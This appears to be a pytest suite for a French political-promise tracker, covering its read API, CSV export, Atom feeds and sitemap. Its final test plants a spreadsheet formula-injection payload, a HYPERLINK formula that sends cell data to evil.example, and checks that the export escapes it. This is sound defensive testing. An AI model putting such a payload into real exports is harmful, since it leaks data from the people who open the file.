"""Open data: the read API, the CSV export, Atom feeds and the sitemap, as programs read them."""

import csv
import io
import re

import feedparser
import pytest

from .conftest import DEMO_CONTENT


@pytest.fixture
def demo_client(tmp_path):
    from kb.web import create_app

    return create_app({"TESTING": True, "CONTENT_DIR": str(DEMO_CONTENT), "INSTANCE_DIR": str(tmp_path)}).test_client()


def test_api_lists_promises_with_the_same_filters_as_the_page(demo_client):
    data = demo_client.get("/api/promises?status=done&territory=Métropole+européenne+de+Lille").get_json()
    assert data["total"] == len(data["promises"]) > 0
    assert {p["status"] for p in data["promises"]} == {"done"}
    assert {p["territory"] for p in data["promises"]} == {"Métropole européenne de Lille"}


def test_api_reports_unknown_filter_values(demo_client):
    data = demo_client.get("/api/promises?status=fini").get_json()
    assert data["ignored_filters"] == {"status": "fini"} and data["total"] == 45


def test_api_gives_one_promise_with_its_history_and_evidence(demo_client):
    response = demo_client.get("/api/promises/aubry-mutualisation-lille-lomme-hellemmes")
    data = response.get_json()
    assert response.headers["Access-Control-Allow-Origin"] == "*"
    assert data["status"] == "partial" and data["status_label"] == "en partie réalisée"
    assert data["history"][-1]["evidence"][0]["source"] == "mediacites-aubry-mutualisation-2026"
    assert data["url"].endswith("/promesses/aubry-mutualisation-lille-lomme-hellemmes")


def test_api_gives_a_source_with_its_text_and_who_cites_it(demo_client):
    data = demo_client.get("/api/sources/mediacites-aubry-mutualisation-2026").get_json()
    assert data["cited_by"] == ["aubry-mutualisation-lille-lomme-hellemmes"]
    assert "unification de la paie" in data["text"]


@pytest.mark.parametrize("url", ["/api/promises/inconnue", "/api/sources/inconnue"])
def test_api_unknown_ids_are_json_404s(demo_client, url):
    response = demo_client.get(url)
    assert response.status_code == 404 and response.get_json()["error"] == "not_found"


def test_csv_has_one_row_per_promise_and_opens_in_a_spreadsheet(demo_client):
    response = demo_client.get("/export/promises.csv")
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: spreadsheets read the accents right
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert len(rows) == 45
    aubry = next(row for row in rows if row["id"] == "aubry-mutualisation-lille-lomme-hellemmes")
    assert aubry["statut_libelle"] == "en partie réalisée" and aubry["titre"].startswith("Approfondir")
    assert 'filename="promesses.csv"' in response.headers["Content-Disposition"]


def test_the_main_feed_lists_status_changes_newest_first_for_a_feed_reader(demo_client):
    feed = feedparser.parse(demo_client.get("/flux.atom").get_data())
    assert not feed.bozo
    assert feed.feed.title == "Promesses : changements de statut"
    dates = [entry.updated for entry in feed.entries]
    assert dates == sorted(dates, reverse=True) and len(dates) == 50
    assert any("→" in entry.title for entry in feed.entries)


def test_a_politicians_feed_has_only_their_promises(demo_client):
    feed = feedparser.parse(demo_client.get("/flux.atom?made_by=martine-aubry").get_data())
    assert not feed.bozo and len(feed.entries) == 2
    assert all("Lille, Lomme et Hellemmes" in entry.title for entry in feed.entries)


def test_a_promise_has_its_own_feed(demo_client):
    feed = feedparser.parse(demo_client.get("/promesses/marcq-la-madeleine-balayeuses.atom").get_data())
    assert not feed.bozo
    assert [entry.title.split(" : ")[-1] for entry in feed.entries] == ["en cours → réalisée", "en cours"]
    assert demo_client.get("/promesses/inconnue.atom").status_code == 404


def test_sitemap_lists_every_public_page(demo_client):
    xml = demo_client.get("/sitemap.xml").get_data(as_text=True)
    assert xml.count("<loc>") == 5 + 45 + 5 + 1 + 4 + 5 + 5 + 3  # home, trackers, people, territories, list; promises; sources; claims list; claims; trackers; people; pages
    assert "/territoires</loc>" in xml
    assert "/promesses/aubry-mutualisation-lille-lomme-hellemmes</loc>" in xml
    assert "/affirmations/mel-25-actions-mutualisation-depuis-2015</loc>" in xml


def test_csv_cells_can_never_be_read_as_formulas(tmp_path):
    import shutil

    from kb.web import create_app

    content = shutil.copytree(DEMO_CONTENT, tmp_path / "content")
    path = content / "promises" / "mel-carrieres-catiches.md"
    text = path.read_text(encoding="utf-8")
    text = re.sub(r"^title: .*$", 'title: \'=HYPERLINK("http://evil.example/?x="&A1,"clic")\'', text, count=1, flags=re.M)
    text = re.sub(r"^theme: .*$", "theme: '@SUM(1+1)'", text, count=1, flags=re.M)
    path.write_text(text, encoding="utf-8")
    client = create_app({"TESTING": True, "CONTENT_DIR": str(content), "INSTANCE_DIR": str(tmp_path / "i")}).test_client()
    rows = list(csv.DictReader(io.StringIO(client.get("/export/promises.csv").get_data().decode("utf-8-sig"))))
    row = next(row for row in rows if row["id"] == "mel-carrieres-catiches")
    assert row["titre"].startswith("'=HYPERLINK") and row["theme"] == "'@SUM(1+1)"
